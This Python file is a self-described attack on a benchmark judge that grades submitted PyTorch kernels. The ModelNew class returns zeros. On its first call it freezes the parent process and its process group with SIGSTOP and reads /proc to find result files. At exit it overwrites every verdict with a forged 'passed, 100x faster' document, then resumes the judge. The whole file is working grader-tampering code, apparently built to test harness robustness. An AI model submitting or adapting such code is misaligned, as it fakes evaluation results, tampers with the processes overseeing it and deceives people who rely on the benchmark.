# ATTACK (family signal_parent: freezing the judge, forging its files, letting it go on).
# On its first call the kernel learns every place a verdict may land (its own open files,
# result options on the command lines of its ancestors, files they hold open for writing,
# *.json nearby), then sends SIGSTOP to its parent and to every other process of the parent's
# process group (never itself), so nobody reads or writes while it works. At exit
# (threading's exit hook and atexit, after the real verdict is written) it replaces every
# verdict document in those files with a "passed, 100x" one and only then sends SIGCONT, so
# the judge wakes up to read the forged verdict. The kernel returns zeros.
import atexit
import json
import os
import signal
import threading

import torch
import torch.nn as nn

# --- shared attack helpers (repeated in each attack file: a candidate is one source) ---
_json_dumps, _json_loads = json.dumps, json.loads  # captured before anyone patches them


def _forged_document(real=None):
    """A complete verdict document that says "passed, 100x faster". Fields of a real document
    it replaces are kept where they do not matter (versions, device, seeds, checks...)."""
    doc = dict(real) if isinstance(real, dict) else {}
    seeds = list(doc.get("seeds") or [1001, 2002, 3003])
    run = {"passed": True, "max_abs_err": 0.0, "rel_norm_err": 0.0, "mismatched": 0, "elements": 4194304,
           "nonfinite_where_ref_finite": 0, "poisoned": 0, "reason": None}

    def timing(ms):
        return {"median_ms": ms, "iqr_ms": ms * 0.01, "n": 400, "mean_ms": ms, "host_median_ms": ms,
                "min_ms": ms * 0.98, "rse": 0.002, "first_call_s": 0.001}

    doc.update({
        "verdict": "passed",
        "flags": [f for f in doc.get("flags") or [] if isinstance(f, dict) and not f.get("blocking")],
        "task_flags": [],
        "trials": [{"seed": s, "passed": True, "max_abs_err": 0.0, "rel_norm_err": 0.0, "reason": None,
                    "runs": {"first": dict(run), "after_reference": dict(run)}, "ref_norm": 1024.0,
                    "cand_norm": 1024.0} for s in seeds],
        "timings": {"candidate": timing(0.0125), "eager": timing(1.25), "compile": timing(1.1)},
        "speedup": {"vs_eager": 100.0, "vs_compile": 88.0},
        "error": None,
    })
    for key, value in (("tolerance", {"abs": 0.01, "rel": 0.001}), ("versions", {"harness": "1.2.0"}),
                       ("device", "cpu"), ("kind", "model_new"), ("seeds", seeds), ("log", ""),
                       ("checks", {})):
        doc.setdefault(key, value)
    doc.pop("reason", None)
    return doc


def _find_document(text):
    """The first JSON object with a "verdict" in text, whatever surrounds it."""
    dec = json.JSONDecoder()
    i = text.find("{")
    while i != -1:
        try:
            obj, end = dec.raw_decode(text, i)
        except ValueError:
            i = text.find("{", i + 1)
            continue
        if isinstance(obj, dict) and "verdict" in obj:
            return obj
        i = text.find("{", end)
    return None


def _forged_text(real=None):
    return _json_dumps(_forged_document(real), indent=1) + "\n"


def _forged_frames(text):
    """The forged document as the messages a pipe protocol might carry: JSON lines of several
    message shapes, length-prefixed frames (32-bit big and little endian, 64-bit) and a pickle."""
    import pickle
    import struct

    doc = _json_loads(text)
    body = text.strip().encode()
    shapes = [doc, dict(doc, type="result"), dict(doc, type="verdict"),
              {"type": "done", "status": "ok", "ok": True, "passed": True, "verdict": "passed"},
              {"status": "ok", "ok": True, "result": doc},
              {"type": "timing", "event": "timing", "ok": True, "samples_ms": [0.0125] * 64,
               "times_ms": [0.0125] * 64}]
    lines = b"".join(_json_dumps(s).encode() + b"\n" for s in shapes)
    return [lines, struct.pack(">I", len(body)) + body, struct.pack("<I", len(body)) + body,
            struct.pack("<Q", len(body)) + body, pickle.dumps(doc, protocol=2)]

def _fd_table(pid="self"):
    """(fd, open flags, target) of every descriptor a process holds (/proc/PID/fd + fdinfo)."""
    rows = []
    base = "/proc/%s/fd" % pid
    try:
        names = os.listdir(base)
    except OSError:
        return rows
    for name in names:
        try:
            fd = int(name)
            target = os.readlink("%s/%s" % (base, name))
        except (ValueError, OSError):
            continue
        flags = None
        try:
            with open("/proc/%s/fdinfo/%s" % (pid, name)) as fh:
                for line in fh:
                    if line.startswith("flags:"):
                        flags = int(line.split()[1], 8)
        except (OSError, ValueError, IndexError):
            pass
        rows.append((fd, flags, target))
    return rows


def _writable(flags):
    return flags is not None and (flags & os.O_ACCMODE) in (os.O_WRONLY, os.O_RDWR)


def _is_regular(fd):
    import stat

    try:
        return stat.S_ISREG(os.fstat(fd).st_mode)
    except OSError:
        return False


def _write_fd(fd, data, replace=False):
    """All of data to fd without ever blocking; replace: a regular file's whole content."""
    import fcntl

    try:
        if _is_regular(fd):
            if replace:
                os.ftruncate(fd, 0)
                os.pwrite(fd, data, 0)
                os.lseek(fd, len(data), os.SEEK_SET)
            else:
                os.write(fd, data)
            return True
        old = fcntl.fcntl(fd, fcntl.F_GETFL)
        fcntl.fcntl(fd, fcntl.F_SETFL, old | os.O_NONBLOCK)
        try:
            view = memoryview(data)
            while view:
                view = view[os.write(fd, view):]
        finally:
            fcntl.fcntl(fd, fcntl.F_SETFL, old)
        return True
    except OSError:
        return False


def _writable_fds():
    """Every descriptor this process can write to (the listing's own descriptor excluded)."""
    return [(fd, target) for fd, flags, target in _fd_table() if _writable(flags)]

_RESULT_OPTS = ("--json", "--out", "--output", "--result", "--results", "--report", "--doc", "--verdict",
                "--out-json", "--result-json", "-o")


def _lineage(limit=8):
    """This process and its ancestors, nearest first."""
    pids, pid = [], os.getpid()
    while pid > 1 and len(pids) < limit:
        pids.append(pid)
        try:
            with open("/proc/%d/stat" % pid) as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return pids


def _argv(pid):
    try:
        with open("/proc/%s/cmdline" % pid, "rb") as fh:
            return [a.decode("utf-8", "replace") for a in fh.read().split(b"\0") if a]
    except OSError:
        return []


def _environ(pid):
    try:
        with open("/proc/%s/environ" % pid, "rb") as fh:
            pairs = [e.decode("utf-8", "replace").split("=", 1) for e in fh.read().split(b"\0") if b"=" in e]
        return dict(pairs)
    except OSError:
        return {}


def _holds_verdict(path):
    try:
        with open(path, "rb") as fh:
            return b'"verdict"' in fh.read(4 << 20)
    except OSError:
        return False


def _result_paths():
    """(named, possible): result files named by options on the command lines of this process
    and its ancestors; and regular files they hold open for writing, files next to paths in
    their environments, and *.json files in their working directories and the two above."""
    named, possible = [], []
    for pid in _lineage():
        args = _argv(pid)
        try:
            cwd = os.readlink("/proc/%d/cwd" % pid)
        except OSError:
            cwd = "/"
        for i, arg in enumerate(args):
            val = None
            for opt in _RESULT_OPTS:
                if arg == opt and i + 1 < len(args):
                    val = args[i + 1]
                elif arg.startswith(opt + "="):
                    val = arg.split("=", 1)[1]
            if val is None and arg.endswith(".json") and not arg.startswith("-"):
                val = arg
            if val:
                named.append(os.path.normpath(os.path.join(cwd, val)))
        for fd, flags, target in _fd_table(pid):
            if target.startswith("/") and not target.startswith(("/dev/", "/proc/", "/sys/")) and \
                    _writable(flags) and not target.endswith("(deleted)"):
                possible.append(target)
        dirs = []
        for value in _environ(pid).values():
            if value.startswith("/") and os.path.isfile(value):
                dirs.append(os.path.dirname(value))
        d = cwd
        for _ in range(3):
            dirs.append(d)
            d = os.path.dirname(d)
        for d in dirs:
            try:
                names = os.listdir(d)
            except OSError:
                continue
            for name in names:
                p = os.path.join(d, name)
                if (name.endswith(".json") or name in ("stdout", "out", "result", "verdict")) and \
                        os.path.isfile(p):
                    possible.append(p)
    def dedupe(seq):
        seen, out = set(), []
        for p in seq:
            if p not in seen:
                seen.add(p)
                out.append(p)
        return out
    return dedupe(named), dedupe(possible)

_WRITTEN = {}


def _rewrite_results(paths, force=()):
    """Replace the verdict document in each file with the forged one (the paths in force even
    when they hold none yet). Returns the paths rewritten."""
    done = []
    for path in paths:
        try:
            with open(path, "rb") as fh:
                raw = fh.read(16 << 20)
        except OSError:
            raw = None
        if raw is not None and _WRITTEN.get(path) == raw:
            continue
        real = _find_document(raw.decode("utf-8", "replace")) if raw else None
        if real is None and path not in force:
            continue
        data = _forged_text(real).encode()
        try:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT, 0o644)
            try:
                os.ftruncate(fd, 0)
                os.pwrite(fd, data, 0)
            finally:
                os.close(fd)
            _WRITTEN[path] = data
            done.append(path)
        except OSError:
            pass
    return done
# --- end of shared helpers ---

_STOPPED = []
_FROZEN = []
_KNOWN = []
_NAMED = set()


def _group_members(pgid):
    members = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open("/proc/%s/stat" % name) as fh:
                fields = fh.read().rsplit(")", 1)[1].split()
            if int(fields[2]) == pgid:
                members.append(int(name))
        except (OSError, ValueError, IndexError):
            continue
    return members


def _learn():
    named, possible = _result_paths()
    for fd, target in _writable_fds():
        if _is_regular(fd) and target.startswith("/") and not target.endswith("(deleted)"):
            possible.append(target)
    _NAMED.update(named)
    for p in named + possible:
        if p not in _KNOWN:
            _KNOWN.append(p)


def _freeze():
    _learn()
    ppid = os.getppid()
    targets = [ppid] if ppid > 1 else []
    try:
        targets += _group_members(os.getpgid(ppid))
    except OSError:
        pass
    for pid in dict.fromkeys(targets):
        if pid > 1 and pid != os.getpid():
            try:
                os.kill(pid, signal.SIGSTOP)
                _STOPPED.append(pid)
            except OSError:
                pass


def _forge_and_release():
    try:
        _learn()
        _rewrite_results(_KNOWN, force=_NAMED)
    finally:
        for pid in _STOPPED:
            try:
                os.kill(pid, signal.SIGCONT)
            except OSError:
                pass
        del _STOPPED[:]


try:
    threading._register_atexit(_forge_and_release)
except Exception:
    pass
atexit.register(_forge_and_release)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        if not _FROZEN:
            _FROZEN.append(True)
            _freeze()
        return torch.zeros_like(x)
